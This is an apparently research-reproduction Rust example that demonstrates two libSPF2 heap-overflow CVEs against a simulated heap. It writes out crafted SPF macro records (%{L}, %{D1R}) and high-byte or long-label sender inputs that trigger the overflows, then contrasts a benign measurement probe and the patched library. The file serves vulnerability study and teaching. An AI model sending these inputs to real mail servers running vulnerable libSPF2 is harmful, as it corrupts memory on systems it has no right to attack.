//! Proof-of-concept for both CVEs over the simulated heap (paper §4.1).
//!
//! An attacker controls two inputs to a victim's libSPF2: the SPF record
//! of a domain they own (pulled down via DNS) and the `MAIL FROM` address
//! they send. This example shows how each bug corrupts the simulated heap
//! — and why the *measurement* probe never does.
//!
//! ```text
//! cargo run -p spfail --example cve_poc
//! ```

use spfail::libspf2::{LibSpf2Config, LibSpf2Expander, LibSpf2Version};
use spfail::spf::expand::{MacroContext, MacroExpander};
use spfail::spf::macrostring::MacroString;

fn main() {
    // ---- CVE-2021-33912: the sprintf sign-extension overflow. -----------
    println!("== CVE-2021-33912: URL-encoding sprintf overflow ==");
    println!("record mechanism: exists:%{{L}}.attacker.example   (uppercase L = URL-encode)");
    println!("crafted MAIL FROM local part contains bytes >= 0x80 (\"caf\\u{{e9}}\")");
    let ctx = MacroContext::new(
        "caf\u{e9}",
        "victim-sender.example",
        "192.0.2.66".parse().expect("ip"),
    );
    let ms = MacroString::parse("%{L}.attacker.example").expect("valid macro");

    let mut vulnerable = LibSpf2Expander::vulnerable();
    let out = vulnerable
        .expand(&ms, &ctx, false)
        .expect("expansion survives");
    println!("  expansion written: {out}");
    let heap = vulnerable.heap();
    println!(
        "  heap: corrupted={} (overflowed {} byte(s), max overrun {})",
        heap.corrupted(),
        heap.overflow_events().len(),
        heap.max_overrun()
    );
    println!("  -> each high byte costs 9 output bytes where 3 were budgeted\n");

    // ---- CVE-2021-33913: the length-reassignment overflow. ---------------
    println!("== CVE-2021-33913: buffer length reassignment ==");
    println!("record mechanism: a:%{{D1R}}.attacker.example  (reverse + truncate + URL-encode)");
    // The first label becomes the *truncated* part after reversal, so the
    // attacker keeps it short ("x") to force a tiny allocation, and packs
    // the payload into the remaining labels.
    let long_domain = "x.payload-aaaaaaaaaaaaaaaaaaaa.payload-bbbbbbbbbbbbbbbbbbbb.\
                       payload-cccccccccccccccccccc";
    println!("crafted sender domain: {long_domain}");
    let ctx = MacroContext::new("u", long_domain, "192.0.2.66".parse().expect("ip"));
    let ms = MacroString::parse("%{D1R}").expect("valid macro");

    let mut vulnerable = LibSpf2Expander::vulnerable();
    let out = vulnerable
        .expand(&ms, &ctx, false)
        .expect("expansion survives");
    println!("  expansion written: {:.60}...", out);
    let heap = vulnerable.heap();
    println!(
        "  heap: corrupted={}, {} attacker-controlled byte(s) past the allocation \
         (<= 100 per the paper)",
        heap.corrupted(),
        heap.max_overrun()
    );

    // With fault-on-overflow the process "crashes" instead.
    let mut crashing = LibSpf2Expander::new(LibSpf2Config {
        version: LibSpf2Version::V1_2_10,
        fault_on_overflow: true,
        overrun_cap: 100,
    });
    match crashing.expand(&ms, &ctx, false) {
        Err(fault) => println!("  with fault-on-overflow: {fault}"),
        Ok(_) => unreachable!("this input always overflows"),
    }
    println!();

    // ---- Why the measurement is benign. ----------------------------------
    println!("== why the paper's probe never corrupts anything ==");
    let probe = MacroString::parse("%{d1r}.abc.s1.spf-test.dns-lab.org").expect("valid");
    let ctx = MacroContext::new(
        "mmj7yzdm0tbk",
        "abc.s1.spf-test.dns-lab.org",
        "203.0.113.25".parse().expect("ip"),
    );
    let mut vulnerable = LibSpf2Expander::vulnerable();
    let out = vulnerable.expand(&probe, &ctx, false).expect("expansion");
    println!("  probe record uses lowercase %{{d1r}}: no URL encoding, no overflow path");
    println!("  expansion (the DNS fingerprint): {out}");
    println!("  heap corrupted: {}", vulnerable.heap().corrupted());

    // ---- The patched library, same inputs. -------------------------------
    println!();
    println!("== patched libSPF2, same attacker inputs ==");
    let mut patched = LibSpf2Expander::patched();
    let ms = MacroString::parse("%{D1R}").expect("valid");
    let ctx = MacroContext::new("u", long_domain, "192.0.2.66".parse().expect("ip"));
    let out = patched.expand(&ms, &ctx, false).expect("expansion");
    println!("  expansion: {out}");
    println!("  heap corrupted: {}", patched.heap().corrupted());
}
